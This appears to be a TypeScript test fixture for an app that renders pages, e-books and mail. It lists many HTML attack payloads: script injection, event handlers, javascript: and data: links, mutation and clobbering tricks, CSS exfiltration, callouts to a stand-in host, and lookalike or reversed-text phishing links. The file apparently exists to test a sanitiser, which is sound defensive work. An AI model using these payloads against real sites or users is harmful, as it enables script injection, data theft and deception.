/** Payloads in the markup of pages: each is a body, which pages, e-books, mails, saved pages and Markdown carry in turn. */
import { asks, script } from "./payload.ts";

export interface MarkupPayload {
  readonly what: string;
  /** Within the body, behind the words that are read. */
  readonly body: (id: string) => string;
  /** Within the head, where a page has one. */
  readonly head?: (id: string) => string;
  /** Its markup is broken so that a browser, too, shows part of it as text. */
  readonly isText?: true;
}

const coded = (text: string): string => Array.from(text, (letter) => `&#${letter.codePointAt(0)}`).join("");
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const link = (address: string, words = "a link"): string => `<p>See <a href="${address}">${words}</a> for more.</p>`;

const SCRIPTS: readonly MarkupPayload[] = [
  { what: "a script", body: (id) => `<script>${script(id)}</script>` },
  { what: "a script in capitals with an attribute", body: (id) => `<SCRIPT/x="y" >${script(id)}</SCRIPT >` },
  { what: "a script from elsewhere", body: (id) => `<script src="${asks(id, "x.js")}"></script>` },
  { what: "a module", body: (id) => `<script type="module">import "${asks(id, "x.mjs")}";${script(id)}</script>` },
  { what: "a script from data", body: (id) => `<script src="data:text/javascript,${script(id)}"></script>` },
  { what: "a script within a script", body: (id) => `<scr<script>ipt>${script(id)}</scr</script>ipt>`, isText: true },
  { what: "a script that never ends", body: (id) => `<script>${script(id)}` },
  {
    what: "a script behind a comment that ends early",
    body: (id) => `<!--><script>${script(id)}</script>-->`,
    isText: true,
  },
  { what: "a script in a comment with a bang", body: (id) => `<!-- x --!><script>${script(id)}</script>` },
  { what: "a script in a processing instruction", body: (id) => `<?xml x><script>${script(id)}</script>` },
  { what: "a script in CDATA", body: (id) => `<div><![CDATA[><script>${script(id)}</script>]]></div>`, isText: true },
  { what: "a script with a null", body: (id) => `<scr\u0000ipt>${script(id)}</scr\u0000ipt>`, isText: true },
  {
    what: "JSON that closes its script",
    head: (id) => `<script type="application/ld+json">{"headline":"</script><script>${script(id)}</script>"}</script>`,
    body: () => "",
    isText: true,
  },
];

const HANDLERS: readonly MarkupPayload[] = [
  { what: "an image that fails", body: (id) => `<img src="x:" onerror="${script(id)}">` },
  {
    what: "an image without quotation marks",
    body: (id) => `<img src=x: onerror=${script(id).replaceAll(" ", "/**/")}>`,
  },
  { what: "an image with a slash for a space", body: (id) => `<img/src="x:"/onerror="${script(id)}"/>` },
  { what: "a handler in numbers", body: (id) => `<img src="x:" onerror="${coded(script(id))}">` },
  { what: "a handler in capitals", body: (id) => `<IMG SRC="x:" OnErRoR="${script(id)}">` },
  { what: "a body that loads", body: (id) => `<body onload="${script(id)}" onpageshow="${script(id)}">` },
  { what: "an input that takes the focus", body: (id) => `<input autofocus onfocus="${script(id)}">` },
  {
    what: "any element that takes the focus",
    body: (id) => `<p tabindex="0" autofocus onfocus="${script(id)}">Focus</p>`,
  },
  {
    what: "details that open",
    body: (id) => `<details open ontoggle="${script(id)}"><summary>More</summary>of it</details>`,
  },
  { what: "a video that fails", body: (id) => `<video onerror="${script(id)}"><source src="x:"></video>` },
  { what: "an audio that fails", body: (id) => `<audio src="x:" autoplay onerror="${script(id)}"></audio>` },
  { what: "a marquee that starts", body: (id) => `<marquee onstart="${script(id)}">moving words</marquee>` },
  {
    what: "an animation that starts",
    body: (id) =>
      `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${script(id)}">Animated</p>`,
  },
  { what: "a transition", body: (id) => `<p style="transition:all 1s" ontransitionrun="${script(id)}">Moved</p>` },
  {
    what: "words that are pointed at",
    body: (id) =>
      `<p onmouseover="${script(id)}" onpointerenter="${script(id)}" onclick="${script(id)}">Pointed at</p>`,
  },
  {
    what: "a popover",
    body: (id) =>
      `<button popovertarget="x${id}">Press</button><div popover id="x${id}" onbeforetoggle="${script(id)}">popped</div>`,
  },
  {
    what: "content that comes into view",
    body: (id) => `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${script(id)}">Seen</p>`,
  },
];

const ADDRESSES: readonly MarkupPayload[] = [
  { what: "a link to a script", body: (id) => link(`javascript:${script(id)}`) },
  { what: "a link to a script in other cases", body: (id) => link(`JaVaScRiPt:${script(id)}`) },
  { what: "a link to a script with a tab and a line feed", body: (id) => link(`java\tscr\nipt:${script(id)}`) },
  { what: "a link to a script behind control characters", body: (id) => link(`&#1;&#14; javascript:${script(id)}`) },
  { what: "a link to a script in numbers", body: (id) => link(coded(`javascript:${script(id)}`)) },
  { what: "a link to a script with a named colon", body: (id) => link(`javascript&colon;${script(id)}`) },
  {
    what: "a link to a script that looks like a comment",
    body: (id) => link(`javascript://example.org/%0a${script(id)}`),
  },
  { what: "a link to Visual Basic", body: (id) => link(`vbscript:msgbox(&quot;${id}&quot;)`) },
  { what: "a link to a page in data", body: (id) => link(`data:text/html,%3Cscript%3E${script(id)}%3C/script%3E`) },
  {
    what: "a link to a page in base 64",
    body: (id) => link(`data:text/html;base64,${base64(`<script>${script(id)}</script>`)}`),
  },
  { what: "a link to a file", body: () => link("file:///etc/passwd") },
  { what: "a link to a share", body: (id) => link(`\\\\${id}.payload.example\\share\\x.exe`) },
  { what: "a link to a share as a file", body: (id) => link(`file://${id}.payload.example/share/x.exe`) },
  {
    what: "a link to a program",
    body: (id) => link(`ms-msdt:/id ${id}`) + link(`search-ms:query=${id}`) + link("ms-word:ofe|u|x"),
  },
  { what: "a link to the app itself", body: () => link("app://attache/index.html#x") },
  {
    what: "a link to a blob and to a view of a source",
    body: (id) => link(`blob:https://example.org/${id}`) + link("view-source:x"),
  },
  {
    what: "a link that opens by itself and pings",
    body: (id) =>
      `<p><a href="https://example.org/" ping="${asks(id, "ping")}" target="_blank" download>a link</a></p>`,
  },
  {
    what: "a base that turns links to scripts",
    head: (id) => `<base href="javascript:${script(id)}//">`,
    body: () => link("x"),
  },
  {
    what: "a base elsewhere",
    head: (id) => `<base href="${asks(id, "base/")}" target="_top">`,
    body: () => `<img src="x.png">`,
  },
  {
    what: "a map of areas",
    body: (id) =>
      `<img usemap="#m" src="x:"><map name="m"><area shape="default" href="javascript:${script(id)}"></map>`,
  },
];

const REQUESTS: readonly MarkupPayload[] = [
  {
    what: "images from elsewhere",
    body: (id) =>
      `<img src="${asks(id, "1.png")}" srcset="${asks(id, "2.png")} 2x" loading="eager"><picture><source srcset="${asks(id, "3.png")}"></picture>`,
  },
  {
    what: "a background from elsewhere",
    body: (id) =>
      `<table background="${asks(id, "b.png")}"><tr><td background="${asks(id, "c.png")}">A cell</td></tr></table>`,
  },
  {
    what: "a style with an address",
    body: (id) => `<p style="background:url(${asks(id)});list-style:url('${asks(id, "l")}')">Styled</p>`,
  },
  {
    what: "style sheets",
    head: (id) =>
      `<link rel="stylesheet" href="${asks(id, "s.css")}"><style>@import "${asks(id, "i.css")}";@font-face{font-family:f;src:url(${asks(id, "f.woff2")})}body{font-family:f;background:url(${asks(id, "b.png")})}</style>`,
    body: () => "",
  },
  {
    what: "a style that asks by what is written",
    head: (id) =>
      `<style>input[value^=a]{background:url(${asks(id, "a")})}p{color:expression(${script(id)});-moz-binding:url(${asks(id, "x.xml")});behavior:url(${asks(id, "x.htc")})}</style>`,
    body: () => `<input value="abc">`,
  },
  {
    what: "hints of what to fetch",
    head: (id) =>
      `<link rel="preload" as="script" href="${asks(id, "p")}"><link rel="prefetch" href="${asks(id, "q")}"><link rel="dns-prefetch" href="//${id}.payload.example"><link rel="preconnect" href="${asks(id)}"><link rel="icon" href="${asks(id, "favicon.ico")}"><link rel="manifest" href="${asks(id, "m")}">`,
    body: () => "",
  },
  {
    what: "a page that goes elsewhere by itself",
    head: (id) =>
      `<meta http-equiv="refresh" content="0;url=${asks(id)}"><meta http-equiv="refresh" content="0;url=javascript:${script(id)}">`,
    body: () => "",
  },
  {
    what: "a page that sets a policy and a cookie",
    head: (id) =>
      `<meta http-equiv="Content-Security-Policy" content="default-src *;report-uri ${asks(id)}"><meta http-equiv="set-cookie" content="${id}=1"><meta name="referrer" content="unsafe-url">`,
    body: () => "",
  },
  {
    what: "frames",
    body: (id) =>
      `<iframe src="${asks(id)}"></iframe><iframe srcdoc="&lt;script&gt;${script(id)}&lt;/script&gt;"></iframe><iframe src="javascript:${script(id)}"></iframe><frameset><frame src="${asks(id, "f")}"></frameset>`,
  },
  {
    what: "objects",
    body: (id) =>
      `<object data="${asks(id, "o")}" type="text/html"></object><embed src="${asks(id, "e")}"><applet code="x" codebase="${asks(id, "a")}"></applet><object data="javascript:${script(id)}"></object>`,
  },
  {
    what: "a form that sends itself",
    body: (id) =>
      `<form id="f" action="${asks(id)}" method="post"><input name="a" value="b"><button formaction="javascript:${script(id)}">Send</button><input type="image" src="${asks(id, "i")}"></form><form action="javascript:${script(id)}"><input type="submit"></form>`,
  },
  {
    what: "a portal, a fenced frame and a web view",
    body: (id) =>
      `<portal src="${asks(id)}"></portal><fencedframe src="${asks(id)}"></fencedframe><webview src="${asks(id)}" nodeintegration preload="x"></webview>`,
  },
  {
    what: "tracks, posters and sources",
    body: (id) =>
      `<video poster="${asks(id, "p")}" src="${asks(id, "v")}" autoplay muted><track default src="${asks(id, "t")}"></video><bgsound src="${asks(id, "b")}">`,
  },
];

const DRAWINGS: readonly MarkupPayload[] = [
  { what: "a drawing that loads", body: (id) => `<svg onload="${script(id)}"><text>drawn</text></svg>` },
  {
    what: "a script of a drawing",
    body: (id) => `<svg><script>${script(id)}</script><script href="${asks(id)}"/></svg>`,
  },
  {
    what: "a page within a drawing",
    body: (id) =>
      `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${script(id)}"><iframe src="${asks(id)}"></iframe></body></foreignObject></svg>`,
  },
  {
    what: "an animation of a link",
    body: (id) =>
      `<svg><a><animate attributeName="href" values="javascript:${script(id)}"/><text>press</text></a></svg>`,
  },
  {
    what: "an animation that begins",
    body: (id) =>
      `<svg><animate onbegin="${script(id)}" attributeName="x" dur="1s"/><set attributeName="onload" to="${script(id)}"/></svg>`,
  },
  {
    what: "a use, an image and a filter of elsewhere",
    body: (id) =>
      `<svg><use href="${asks(id, "u.svg#x")}"/><image href="${asks(id, "i.png")}"/><feImage href="${asks(id, "f.png")}"/></svg>`,
  },
  {
    what: "a style within a drawing that ends it",
    body: (id) => `<svg><style><img src="x:" onerror="${script(id)}"></style></svg>`,
  },
  {
    what: "a formula with a link",
    body: (id) =>
      `<math href="javascript:${script(id)}"><mtext>x</mtext><maction actiontype="statusline#x" xlink:href="javascript:${script(id)}">y</maction></math>`,
  },
  {
    what: "a formula that changes its meaning when written out",
    body: (id) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${script(id)}&gt;">`,
  },
  {
    what: "an annotation that is a page",
    body: (id) => `<math><annotation-xml encoding="text/html"><script>${script(id)}</script></annotation-xml></math>`,
  },
];

const MUTATIONS: readonly MarkupPayload[] = [
  {
    what: "a noscript that ends in an attribute",
    body: (id) => `<noscript><p title="</noscript><img src=x: onerror=${script(id)}>">`,
    isText: true,
  },
  { what: "a template", body: (id) => `<template><script>${script(id)}</script><img src="${asks(id)}"></template>` },
  {
    what: "a template with a shadow",
    body: (id) =>
      `<div><template shadowrootmode="open"><img src="x:" onerror="${script(id)}"><slot></slot></template>In the light</div>`,
  },
  { what: "a title that ends early", body: (id) => `<title></title><img src="x:" onerror="${script(id)}">` },
  {
    what: "a text area that ends early",
    body: (id) => `<textarea><p title="</textarea><img src=x: onerror=${script(id)}>"></textarea>`,
    isText: true,
  },
  {
    what: "a style that ends early",
    body: (id) => `<style><p title="</style><img src=x: onerror=${script(id)}>">`,
    isText: true,
  },
  {
    what: "old elements of plain text",
    body: (id) => `<xmp><p title="</xmp><img src=x: onerror=${script(id)}>"></xmp>`,
    isText: true,
  },
  {
    what: "a form in a form through a table",
    body: (id) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${script(id)}">`,
  },
  {
    what: "a select that holds a script",
    body: (id) => `<select><option><script>${script(id)}</script>choice</select>`,
  },
  { what: "back ticks around a value", body: (id) => `<img src="x:" alt="\`\`onerror=${script(id)}">` },
  { what: "an attribute that ends late", body: (id) => `<p title='"><img src=x: onerror=${script(id)}>'>Titled</p>` },
  {
    what: "entities that are a tag once read",
    body: (id) => `<p>&lt;img src=x: onerror="${script(id)}"&gt; &amp;lt;script&amp;gt;</p>`,
    isText: true,
  },
  { what: "a tag that never ends", body: (id) => `<p>Last</p><img src="x:" onerror="${script(id)}" ` },
  {
    what: "a conditional comment",
    body: (id) =>
      `<!--[if IE]><script>${script(id)}</script><![endif]--><comment><img src="x:" onerror="${script(id)}"></comment>`,
  },
];

const CLOBBERING: readonly MarkupPayload[] = [
  {
    what: "names of the document",
    body: () =>
      `<form name="body"></form><img name="querySelector"><img name="getElementById"><form id="forms"></form><img name="title"><iframe name="cookie"></iframe><a id="defaultView"></a>`,
  },
  {
    what: "names of the window",
    body: (id) =>
      `<a id="attache" href="${asks(id)}">bridge</a><a id="attache" name="app">app</a><form id="top"></form><img id="location"><a id="root">root</a><div id="root">another root</div>`,
  },
  {
    what: "names of forms",
    body: () =>
      `<form id="x"><input name="attributes"><input name="parentNode"><input name="nodeName"><input id="children"></form>`,
  },
  {
    what: "names of prototypes",
    body: () =>
      `<a id="__proto__" name="polluted">a</a><a id="constructor">b</a><p class="__proto__ constructor toString">c</p>`,
  },
  {
    what: "roles, states and looks of the app",
    body: () =>
      `<div role="dialog" aria-modal="true" class="modal-overlay"><p id="react-aria-1" data-excerpt-id="excerpt-000000000000" data-block-start="0" data-section-id="context" class="source-link" data-address="javascript:1">Dialog</p></div>`,
  },
  {
    what: "what can be written in and dragged",
    body: () =>
      `<p contenteditable="true" draggable="true" tabindex="1" accesskey="s" is="x-y" slot="title" part="x" popover>Written</p><x-y>own element</x-y>`,
  },
  {
    what: "what lies over the window",
    body: () => `<div style="position:fixed;inset:0;z-index:99999;background:red" class="modal">Over everything</div>`,
  },
];

const DISGUISES: readonly MarkupPayload[] = [
  {
    what: "a link whose words name another address",
    body: (id) => link(asks(id, "login"), "https://bank.example/login"),
  },
  {
    what: "a link turned around",
    body: (id) => link(asks(id, "gpj.exe"), "photo\u202Eexe.jpg\u202C and \u2067more\u2069"),
  },
  {
    what: "a link with letters that are not seen",
    body: (id) => link(`https://exa\u200Bmple.org/${id}`, "exa\u200Bmple\u2060.org\uFEFF\u00AD"),
  },
  {
    what: "a link to a name that looks alike",
    body: (id) => link(`https://\u0430\u0440\u0440le.example/${id}`, "apple.example"),
  },
  {
    what: "a link with a name before its host",
    body: (id) => link(`https://bank.example@${id}.payload.example/`, "bank.example"),
  },
  {
    what: "a link to a mail that takes a file along",
    body: (id) => link(`mailto:desk@example.org?attach=/etc/passwd&amp;subject=${id}`, "the desk"),
  },
  {
    what: "overrides that never end",
    body: () => `<p dir="rtl">\u202E\u202E\u2066\u2067 sdrow denruT \u202A</p><bdo dir="rtl">sdrow</bdo>`,
  },
];

export const MARKUP_PAYLOADS: readonly MarkupPayload[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...REQUESTS,
  ...DRAWINGS,
  ...MUTATIONS,
  ...CLOBBERING,
  ...DISGUISES,
];
